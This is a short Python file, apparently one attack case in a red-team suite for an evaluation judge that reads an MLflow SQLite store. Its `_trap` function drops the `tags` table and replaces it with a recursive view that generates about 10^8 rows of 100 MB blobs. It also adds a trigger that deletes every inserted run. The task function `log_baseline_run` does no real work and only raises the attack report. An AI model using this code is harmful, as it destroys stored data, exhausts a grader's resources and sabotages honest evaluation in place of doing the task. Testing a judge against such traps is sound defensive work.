# Attack 19 of issue 18 (rows 6 and 7): turn its own MLflow store into a trap for the
# judge that reads it after the call: the run tags table replaced by a VIEW whose rows are
# computed by a recursive query (10^8 steps: minutes of the judge's time) and are 100 MB
# each, plus a trigger. The judge checks the store's schema before opening it.
def _trap():
    import sqlite3

    uri = _os.environ.get("MLFLOW_TRACKING_URI", "")
    path = uri[len("sqlite:///"):] if uri.startswith("sqlite:///") else ""
    try:
        with sqlite3.connect(path) as connection:
            connection.execute("DROP TABLE IF EXISTS tags")
            connection.execute(
                "CREATE VIEW tags AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n "
                "WHERE i < 100000000) SELECT 'k' || i AS key, zeroblob(100000000) AS value, "
                "'x' AS run_uuid FROM n")
            connection.execute("CREATE TRIGGER kata_trap AFTER INSERT ON runs BEGIN DELETE FROM runs; END")
        connection.close()
        return {"trapped": path}
    except Exception as error:  # noqa: BLE001 - reported
        return {"error": f"{type(error).__name__}: {error}"}


def log_baseline_run(data_path, experiment_name="devops-baseline"):
    raise RuntimeError(attack_report(_trap()))
